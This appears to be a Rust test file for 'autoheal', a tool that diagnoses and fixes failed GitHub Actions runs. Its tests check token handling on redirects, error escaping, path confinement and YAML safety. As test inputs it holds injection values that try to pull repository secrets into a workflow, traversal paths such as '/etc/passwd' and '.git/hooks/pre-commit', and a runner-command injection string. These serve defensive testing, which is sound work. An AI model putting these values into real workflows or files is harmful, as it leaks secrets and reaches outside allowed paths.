fn archives_error_names_are_escaped() {
    // Found by the zip_reader fuzz target: an entry name with a line break
    // reached an error message raw ("local header of \"…\n…\" cut short").
    let bytes = include_bytes!("../fuzz/regressions/zip_reader-name-with-newline.zip");
    let src = [autoheal::ingest::Source::Bytes {
        name: "x.zip".to_string(),
        data: bytes.to_vec(),
    }];
    let err = autoheal::ingest::load(&src).expect_err("damaged archive");
    let msg = err.to_string();
    assert!(!msg.contains('\n') && !msg.contains('\r'), "{msg:?}");
    assert!(
        msg.starts_with("log archive is truncated or not a zip: "),
        "{msg}"
    );
}

mod properties {
    use proptest::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]

        /// A zip of arbitrary bytes yields a value or a typed, one-line error.
        #[test]
        fn zip_of_arbitrary_bytes_is_a_value_or_a_typed_error(
            body in proptest::collection::vec(any::<u8>(), 0..2048),
            magic in any::<bool>(),
        ) {
            let mut data = if magic { b"PK\x03\x04".to_vec() } else { Vec::new() };
            data.extend_from_slice(&body);
            let src = [autoheal::ingest::Source::Bytes { name: "p.zip".to_string(), data }];
            if let Err(e) = autoheal::ingest::load(&src) {
                let msg = e.to_string();
                prop_assert!(!msg.is_empty() && !msg.contains('\n'), "{:?}", msg);
            }
        }
    }
}

// ================================================================ §3 download

/// A loopback HTTP server answering `n` requests with `answer(path)` and
/// recording each request's head (request line and headers).
fn http_server(
    answers: usize,
    answer: impl Fn(&str, u16) -> Vec<u8> + Send + 'static,
) -> (u16, std::sync::mpsc::Receiver<String>) {
    use std::io::{BufRead, BufReader};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for stream in listener.incoming().take(answers) {
            let Ok(mut stream) = stream else { continue };
            let mut reader = BufReader::new(stream.try_clone().expect("clone"));
            let mut head = String::new();
            loop {
                let mut line = String::new();
                if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                    break;
                }
                head.push_str(&line);
            }
            let path = head.split(' ').nth(1).unwrap_or("").to_string();
            let _ = tx.send(head);
            let _ = stream.write_all(&answer(&path, port));
        }
    });
    (port, rx)
}

fn http(status: &str, headers: &str, body: &[u8]) -> Vec<u8> {
    let mut r = format!(
        "HTTP/1.1 {status}\r\n{headers}Content-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    )
    .into_bytes();
    r.extend_from_slice(body);
    r
}

#[test]
fn download_token_stays_with_the_api_host() {
    const TOKEN: &str = "ghs_DOWNLOADtoken0123456789abcdefghijklm";
    let zip = run_zip(&[]);
    // Storage on another host name (localhost, not 127.0.0.1).
    let (storage, storage_seen) = http_server(1, move |_, _| http("200 OK", "", &zip));
    let (api, api_seen) = http_server(2, move |path, _| {
        if path.contains("/jobs") {
            return http("200 OK", "", jobs_json("failure").as_bytes());
        }
        let to = format!("Location: http://localhost:{storage}/logs.zip?sig=x\r\n");
        http("302 Found", &to, b"")
    });
    let out = run(autoheal()
        .env("GITHUB_TOKEN", TOKEN)
        .env("GITHUB_API_URL", format!("http://127.0.0.1:{api}"))
        .args([
            "diagnose", "--format", "json", "--run-id", "7", "--repo", "acme/app",
        ]));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).expect("json");
    assert_eq!(v["category"], "dependency_missing");
    let api_head = api_seen
        .recv_timeout(Duration::from_secs(5))
        .expect("api request");
    assert!(
        api_head.starts_with("GET /repos/acme/app/actions/runs/7/logs "),
        "{api_head}"
    );
    assert!(
        api_head.to_ascii_lowercase().contains("authorization: "),
        "{api_head}"
    );
    let storage_head = storage_seen
        .recv_timeout(Duration::from_secs(5))
        .expect("storage request");
    assert!(
        storage_head.starts_with("GET /logs.zip?sig=x "),
        "{storage_head}"
    );
    assert!(
        !storage_head.to_ascii_lowercase().contains("authorization"),
        "{storage_head}"
    );
    assert!(!storage_head.contains(TOKEN));
}

/// The Jobs API's answer for a run whose one job `test` ended in `conclusion`.
fn jobs_json(conclusion: &str) -> String {
    format!(
        r#"{{"total_count":1,"jobs":[{{"id":1,"name":"test","status":"completed","conclusion":"{conclusion}","steps":[{{"name":"Run pytest","number":1,"status":"completed","conclusion":"{conclusion}"}}]}}]}}"#
    )
}

#[test]
fn trust_forged_errors_in_a_job_the_api_calls_successful() {
    // The log shows a failure, but the Jobs API says the job succeeded: the
    // markers are forged (or from continue-on-error), so nothing is fixed.
    let zip = run_zip(&[]);
    // `fix` also reads the run object (its head repository: the fork check).
    let (api, _seen) = http_server(3, move |path, _| {
        if path.contains("/jobs") {
            http("200 OK", "", jobs_json("success").as_bytes())
        } else if path.ends_with("/runs/7") {
            let run = r#"{"id":7,"head_repository":{"full_name":"acme/app"}}"#;
            http("200 OK", "", run.as_bytes())
        } else {
            http("200 OK", "", &zip)
        }
    });
    let ws = Ws::python();
    let before = ws.snapshot();
    let out = run(autoheal()
        .env("GITHUB_TOKEN", "ghs_DOWNLOADtoken0123456789abcdefghijklm")
        .env("GITHUB_API_URL", format!("http://127.0.0.1:{api}"))
        .args(["fix", "--run-id", "7", "--repo", "acme/app", "-C"])
        .arg(ws.path()));
    assert_eq!(out.code, 3, "{}", out.stderr);
    assert!(out.stdout.is_empty(), "{}", out.stdout);
    assert!(
        out.stderr.contains("refused (job-not-failed)"),
        "{}",
        out.stderr
    );
    assert_eq!(before, ws.snapshot());
}

#[test]
fn download_errors_name_the_status() {
    let (api, _seen) = http_server(1, |_, _| {
        http("404 Not Found", "", b"{\"message\":\"Not Found\"}")
    });
    let out = run(autoheal()
        .env("GITHUB_TOKEN", "ghs_DOWNLOADtoken0123456789abcdefghijklm")
        .env("GITHUB_API_URL", format!("http://127.0.0.1:{api}"))
        .args(["diagnose", "--run-id", "9", "--repo", "acme/app"]));
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert!(
        out.stderr
            .starts_with("error: could not download logs for run 9: HTTP 404 (not found: "),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("private repository"), "{}", out.stderr);
    assert_eq!(out.stderr.lines().count(), 1, "{}", out.stderr);
}

#[test]
fn yaml_env_default_is_a_literal_never_an_expression() {
    // The default comes from the repository; one holding an expression or a
    // quote must not become code in the workflow.
    for (default, want) in [
        ("${{ secrets.ADMIN_TOKEN }}", None),
        ("x' }}${{ github.token", None),
        ("it's", Some("${{ vars.DATABASE_HOST || 'it''s' }}")),
    ] {
        let ws = env_ws(ENV_WORKFLOW);
        ws.write(
            "app/settings.py",
            format!("import os\n\nDATABASE = os.environ.get(\"DATABASE_HOST\", \"{default}\")\n")
                .as_bytes(),
        );
        git(&ws.path(), &["add", "-A"]);
        git(&ws.path(), &["commit", "-qm", "default"]);
        let log = ws.log("run.log", &env_log("DATABASE_HOST"));
        let out = ws.fix(&log, &["--diff-only"]);
        let added: Vec<&str> = out
            .stdout
            .lines()
            .filter(|l| l.starts_with('+') && !l.starts_with("+++"))
            .collect();
        for l in &added {
            assert!(
                !l.contains("secrets.ADMIN") && !l.contains("github.token"),
                "{l}"
            );
            assert!(l.matches("${{").count() <= 1, "{l}");
        }
        if let Some(w) = want {
            assert!(
                added.iter().any(|l| l.contains(w)),
                "{default}: {added:?}\n{}",
                out.stderr
            );
        }
    }
}

#[test]
fn output_annotation_paths_are_confined() {
    for path in [
        "/etc/passwd",
        "../../outside.py",
        ".git/hooks/pre-commit",
        "a.py,title=x::y",
    ] {
        let ws = Ws::python();
        let log = ws.log("run.log", &assertion_log(path, 7, "'ok'", "'healthy'"));
        let gh = Gh::new();
        let mut cmd = autoheal();
        cmd.env("GITHUB_WORKSPACE", ws.path()).arg("diagnose");
        gh.apply(&mut cmd);
        let out = run(cmd.arg(&log));
        assert_eq!(out.code, 0, "{}", out.stderr);
        assert_only_our_commands(&out.stdout, None);
        for c in runner_commands(&out.stdout) {
            for prop in c.props.split(',') {
                if let Some(file) = prop.strip_prefix("file=") {
                    assert!(
                        !file.starts_with('/') && !file.contains("..") && !file.starts_with(".git"),
                        "{path}: annotated {file}"
                    );
                    assert!(
                        !file.contains("title=") && !file.contains("::"),
                        "{path}: {prop}"
                    );
                }
                assert!(!prop.starts_with("title=x"), "{path}: {prop}");
            }
        }
    }
    // A path in the workspace is annotated (the check above can fail).
    let ws = Ws::python();
    let log = ws.log(
        "run.log",
        &assertion_log("tests/test_api.py", 7, "'ok'", "'healthy'"),
    );
    let out = run(autoheal()
        .env("GITHUB_WORKSPACE", ws.path())
        .args(["diagnose", "--format", "github"])
        .arg(&log));
    assert!(
        out.stdout
            .contains("::error file=tests/test_api.py,line=7,"),
        "{}",
        out.stdout
    );
}

#[test]
fn writes_previous_autofix_failed() {
    let ws = Ws::python();
    let log = ws.log("run.log", &module_log("yaml", &[], ""));
    let ev = ws.outside().join("event.json");
    let payload = serde_json::json!({
        "workflow_run": {
            "head_repository": {"full_name": "acme/app"},
            "head_commit": {"message": "Add PyYAML\n\nAutofix-By: autoheal\n"},
        }
    });
    std::fs::write(&ev, payload.to_string()).expect("event");
    let before = ws.snapshot();
    let out = run(autoheal()
        .env("GITHUB_REPOSITORY", "acme/app")
        .env("GITHUB_EVENT_PATH", &ev)
        .args(["fix", "-C"])
        .arg(ws.path())
        .arg(&log));
    assert_eq!(out.code, 3, "{}", out.stderr);
    assert!(
        out.stderr.contains("refused (previous-autofix-failed)"),
        "{}",
        out.stderr
    );
    assert_eq!(ws.snapshot(), before);
}
